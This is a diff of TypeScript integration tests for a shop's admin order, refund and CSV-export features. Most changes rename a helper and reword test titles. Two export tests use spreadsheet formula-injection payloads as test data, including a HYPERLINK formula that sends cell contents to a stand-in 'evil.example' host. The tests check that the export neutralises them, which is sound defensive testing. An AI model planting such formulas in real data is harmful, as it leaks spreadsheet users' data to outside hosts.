@@ -10,17 +10,17 @@ beforeAll(async () => {
 });
 afterAll(() => shop.close());
 
-const desk = (method: string, path: string, body?: object) =>
+const asAdmin = (method: string, path: string, body?: object) =>
   shop.call(method, path, { token: shop.tokens.admin, ...(body && { body }) });
-const page = async (id: string) => (await desk('GET', `/user/order/${id}`)).body;
+const page = async (id: string) => (await asAdmin('GET', `/user/order/${id}`)).body;
 const stockOf = async (slug: string) => (await shop.call('GET', `/product/products/${slug}`)).body.product.quantity;
 
 describe('An order in the admin', () => {
-  it('shows its history: placed, paid, moved by whom, and the emails that were sent', async () => {
+  it('shows its history: placed, paid, status changes with the admin’s name, and the emails that were sent', async () => {
     const bear = await addProduct(shop, { name: 'History Bear', price: 500, quantity: 3 });
     const order = await buy(shop, bear, shop.tokens.asha);
-    await desk('PUT', `/user/order-status/${order._id}`, { status: 'Shipped' });
-    await desk('PUT', `/user/order-status/${order._id}`, { status: 'Shipped' });
+    await asAdmin('PUT', `/user/order-status/${order._id}`, { status: 'Shipped' });
+    await asAdmin('PUT', `/user/order-status/${order._id}`, { status: 'Shipped' });
     const mails = (await shop.outbox()).filter((mail) => mail.includes('asha@demo.shop') && mail.includes(order._id));
     expect(mails.map((mail) => /^Subject: (.*)$/m.exec(mail)?.[1])).toEqual([
       'Your order at Dhaaga',
@@ -36,25 +36,25 @@ describe('An order in the admin', () => {
       { what: '“Shipped: your order at Dhaaga” sent to asha@demo.shop' },
     ]);
     expect((await shop.call('GET', `/user/order/${order._id}`, { token: shop.tokens.asha })).status).toBe(403);
-    expect((await desk('GET', '/user/order/000000000000000000000000')).status).toBe(404);
+    expect((await asAdmin('GET', '/user/order/000000000000000000000000')).status).toBe(404);
   });
 
-  it('moves with others, all or none', async () => {
+  it('changes its status together with others, all or none', async () => {
     const bear = await addProduct(shop, { name: 'Bulk Bear', price: 500, quantity: 5 });
     const ids = [await buy(shop, bear, shop.tokens.asha), await buy(shop, bear, shop.tokens.meera)].map(
       ({ _id }) => _id,
     );
-    const unknown = await desk('PUT', '/user/order-statuses', {
+    const unknown = await asAdmin('PUT', '/user/order-statuses', {
       orderIds: [...ids, '000000000000000000000000'],
       status: 'Delivered',
     });
     expect(unknown.status).toBe(404);
     expect((await page(ids[0] ?? '')).order.status).toBe('Not Processed');
-    const moved = await desk('PUT', '/user/order-statuses', { orderIds: ids, status: 'Delivered' });
+    const moved = await asAdmin('PUT', '/user/order-statuses', { orderIds: ids, status: 'Delivered' });
     expect(moved.body).toMatchObject({ success: true, message: '2 orders set to Delivered' });
     for (const id of ids) expect((await page(id)).order.status).toBe('Delivered');
     for (const orderIds of [[], ['x'], Array.from({ length: 101 }, () => ids[0])])
-      expect((await desk('PUT', '/user/order-statuses', { orderIds, status: 'Shipped' })).status).toBe(400);
+      expect((await asAdmin('PUT', '/user/order-statuses', { orderIds, status: 'Shipped' })).status).toBe(400);
   });
 });
 
@@ -62,16 +62,16 @@ describe('A refund', () => {
   it('goes back in parts until nothing is left, and the buyer gets an email', async () => {
     const bear = await addProduct(shop, { name: 'Refund Bear', price: 1000, quantity: 3 });
     const order = await buy(shop, bear, shop.tokens.meera);
-    const asked = await desk('POST', `/user/order/${order._id}/refunds`, { amount: 250.5 });
+    const asked = await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount: 250.5 });
     expect(asked.body).toMatchObject({ success: true, refundable: 749.5 });
     await shop.quiet();
     expect((await page(order._id)).refunds).toMatchObject([{ amount: 250.5, state: 'processed' }]);
-    const tooMuch = await desk('POST', `/user/order/${order._id}/refunds`, { amount: 750 });
+    const tooMuch = await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount: 750 });
     expect(tooMuch).toMatchObject({ status: 409, body: { errors: [{ path: 'amount' }] } });
-    expect((await desk('POST', `/user/order/${order._id}/refunds`, {})).status).toBe(200);
+    expect((await asAdmin('POST', `/user/order/${order._id}/refunds`, {})).status).toBe(200);
     await shop.quiet();
     expect(await page(order._id)).toMatchObject({ refundable: 0, isRestocked: false });
-    expect((await desk('POST', `/user/order/${order._id}/refunds`, {})).status).toBe(409);
+    expect((await asAdmin('POST', `/user/order/${order._id}/refunds`, {})).status).toBe(409);
     const sent = (await ledger(shop)).refunds.filter((one) => one.payment_id === order.payment.razorpay_payment_id);
     expect(sent.map(({ amount }) => amount)).toEqual([25_050, 74_950]);
     const mails = (await shop.outbox()).filter(
@@ -79,50 +79,50 @@ describe('A refund', () => {
     );
     expect(mails).toHaveLength(2);
     for (const amount of [0, -1, 0.001, 1e9])
-      expect((await desk('POST', `/user/order/${order._id}/refunds`, { amount })).status, String(amount)).toBe(400);
+      expect((await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount })).status, String(amount)).toBe(400);
   });
 
   it('names the rest of the payment when it is less than the smallest refund', async () => {
     const bear = await addProduct(shop, { name: 'Paise Bear', price: 100.5, quantity: 1 });
     const { _id } = await buy(shop, bear, shop.tokens.meera);
-    await desk('POST', `/user/order/${_id}/refunds`, { amount: 100 });
-    expect(await desk('POST', `/user/order/${_id}/refunds`, {})).toMatchObject({
+    await asAdmin('POST', `/user/order/${_id}/refunds`, { amount: 100 });
+    expect(await asAdmin('POST', `/user/order/${_id}/refunds`, {})).toMatchObject({
       status: 409,
       body: { errors: [{ message: 'Only ₹0.50 of the payment is left, and a refund is at least ₹1.' }] },
     });
   });
 
-  it('puts the pieces back once, when that is asked for', async () => {
+  it('restocks the pieces once, on request', async () => {
     const bear = await addProduct(shop, { name: 'Restock Bear', price: 1000, quantity: 3 });
     const order = await buy(shop, bear, shop.tokens.meera);
     expect(await stockOf(bear.slug)).toBe(2);
-    await desk('POST', `/user/order/${order._id}/refunds`, { amount: 100, restock: true });
+    await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount: 100, restock: true });
     expect(await stockOf(bear.slug)).toBe(3);
-    await desk('POST', `/user/order/${order._id}/refunds`, { amount: 100, restock: true });
+    await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount: 100, restock: true });
     expect(await stockOf(bear.slug)).toBe(3);
   });
 
-  it('is sent once although the provider’s answer was lost, and says so when the provider refuses', async () => {
+  it('is sent once although the provider’s response was lost, and shows a refusal', async () => {
     const bear = await addProduct(shop, { name: 'Lost Answer Bear', price: 1000, quantity: 3 });
     const lost = await buy(shop, bear, shop.tokens.meera);
     await fault(shop, { route: 'POST /v1/payments', kind: 'drop_after' });
-    await desk('POST', `/user/order/${lost._id}/refunds`, {});
+    await asAdmin('POST', `/user/order/${lost._id}/refunds`, {});
     await expect.poll(async () => (await page(lost._id)).refunds[0].state, { timeout: 20_000 }).toBe('processed');
     const sent = (await ledger(shop)).refunds.filter((one) => one.payment_id === lost.payment.razorpay_payment_id);
     expect(sent).toHaveLength(1);
 
     const refused = await buy(shop, bear, shop.tokens.meera);
     await fault(shop, { route: 'POST /v1/payments', kind: 'status', value: 400 });
-    await desk('POST', `/user/order/${refused._id}/refunds`, {});
+    await asAdmin('POST', `/user/order/${refused._id}/refunds`, {});
     await expect.poll(async () => (await page(refused._id)).refunds[0].state, { timeout: 20_000 }).toBe('failed');
     expect(await page(refused._id)).toMatchObject({ refundable: 1000, refunds: [{ refusal: expect.any(String) }] });
   });
 
-  it('waits while the account is short of money, and does not call that a failure', async () => {
+  it('waits while the account’s balance is too low, and does not fail', async () => {
     const bear = await addProduct(shop, { name: 'Poor Bear', price: 1000, quantity: 3 });
     const order = await buy(shop, bear, shop.tokens.meera);
     await fault(shop, { route: 'POST /v1/payments', kind: 'low_balance' });
-    await desk('POST', `/user/order/${order._id}/refunds`, {});
+    await asAdmin('POST', `/user/order/${order._id}/refunds`, {});
     await shop.quiet();
     expect((await page(order._id)).refunds).toMatchObject([{ state: 'asked' }]);
     const { rows } = await shop.db.pool.query(
@@ -141,10 +141,10 @@ describe('A refund', () => {
     const order = await buy(shop, bear, shop.tokens.meera);
     const own = await shop.call('POST', `/user/order/${order._id}/refunds`, { token: shop.tokens.meera, body: {} });
     expect(own.status).toBe(403);
-    expect((await desk('POST', '/user/order/000000000000000000000000/refunds', {})).status).toBe(404);
+    expect((await asAdmin('POST', '/user/order/000000000000000000000000/refunds', {})).status).toBe(404);
   });
 
-  it('goes out by itself when a payment came after the goods were gone', async () => {
+  it('is sent automatically when a payment arrives after the stock is gone', async () => {
     const bear = await addProduct(shop, { name: 'Late Bear', price: 700, quantity: 1 });
     const [late, quick] = await Promise.all(
       [shop.tokens.asha, shop.tokens.meera].map(async (token, n) => {
@@ -170,7 +170,7 @@ describe('A refund', () => {
 });
 
 describe('The link in an email', () => {
-  it('opens the order to whoever has it, a guest too, and to nobody else', async () => {
+  it('opens the order without a login, and no other link does', async () => {
     const bear = await addProduct(shop, { name: 'Guest Bear', price: 600, quantity: 4 });
     const delivery = {
       name: 'Neha Guest',
@@ -198,7 +198,7 @@ describe('The list of orders', () => {
     const dear = await addProduct(shop, { name: 'Dear Doll', price: 9000, quantity: 50 });
     const first = await buy(shop, cheap, shop.tokens.asha);
     await buy(shop, dear, shop.tokens.meera);
-    const list = async (query: string) => await desk('GET', `/user/all-orders?${query}`);
+    const list = async (query: string) => await asAdmin('GET', `/user/all-orders?${query}`);
     const largest = await list('sort=largest&limit=1');
     expect(largest.body).toMatchObject([{ totalAmount: 9000 }]);
     expect(Number(largest.headers['x-total-count'])).toBeGreaterThan(1);
@@ -227,23 +227,23 @@ describe('The list of orders', () => {
       expect((await list(query)).status, query).toBe(400);
   });
 
-  it('leaves as CSV that no spreadsheet takes for formulas', async () => {
+  it('is exported as CSV without cells that spreadsheets run as formulas', async () => {
     const bear = await addProduct(shop, { name: '=HYPERLINK("http://evil")', price: 321, quantity: 1 });
     await buy(shop, bear, shop.tokens.asha);
-    const { body, headers } = await desk('GET', '/user/orders.csv?search=asha');
+    const { body, headers } = await asAdmin('GET', '/user/orders.csv?search=asha');
     expect(headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(body).toContain(`"'=HYPERLINK(""http://evil"")","1","321"`);
     expect((await shop.call('GET', '/user/orders.csv')).status).toBe(401);
   });
 
-  it('leaves as CSV in which a buyer’s address is one cell, whatever line breaks and formulas it holds', async () => {
+  it('is exported as CSV in which an address with line breaks and formulas is one cell', async () => {
     const bear = await addProduct(shop, { name: 'Formula Bear', price: 300, quantity: 4 });
     const address = '1 Fort Road\n=HYPERLINK("http://evil.example?"&A1,"click")\u2028@SUM(1)';
     const delivery = { name: 'Guest Gita', phone: '98111 22333', email: 'formula@example.com', address };
     const body = { amount: 30_000, product: { id: bear._id }, delivery };
     const opened = await shop.call('POST', '/product/orders', { body });
     await shop.call('POST', '/product/payment-callback', { body: await pay(shop, opened.body.id) });
-    const file = (await desk('GET', '/user/orders.csv?search=formula')).body as string;
+    const file = (await asAdmin('GET', '/user/orders.csv?search=formula')).body as string;
     const [order, ...others] = parse(file, { bom: true, columns: true }) as Record<string, string>[];
     expect(others).toEqual([]);
     expect(order?.Address).toMatch(/^1 Fort Road\n'=HYPERLINK.*(\u2028')?@SUM/);
@@ -252,18 +252,18 @@ describe('The list of orders', () => {
 
   it('adds up to the numbers of the last days', async () => {
     await settleOpen(shop.db);
-    const before = (await desk('GET', '/user/numbers?days=7')).body;
+    const before = (await asAdmin('GET', '/user/numbers?days=7')).body;
     const bear = await addProduct(shop, { name: 'Counted Bear', price: 400, quantity: 9 });
     const order = await buy(shop, bear, shop.tokens.asha);
     await buy(shop, bear, shop.tokens.asha);
-    await desk('POST', `/user/order/${order._id}/refunds`, { amount: 150 });
+    await asAdmin('POST', `/user/order/${order._id}/refunds`, { amount: 150 });
     await shop.quiet();
-    const after = (await desk('GET', '/user/numbers?days=7')).body;
+    const after = (await asAdmin('GET', '/user/numbers?days=7')).body;
     expect(after.orders - before.orders).toBe(2);
     expect(after.revenue - before.revenue).toBeCloseTo(650);
     expect(after.days).toHaveLength(7);
     expect(after.days.at(-1).revenue).toBeCloseTo(after.revenue);
-    expect((await desk('GET', '/user/numbers?days=8')).status).toBe(400);
+    expect((await asAdmin('GET', '/user/numbers?days=8')).status).toBe(400);
     expect((await shop.call('GET', '/user/numbers?days=7', { token: shop.tokens.asha })).status).toBe(403);
   });
 });
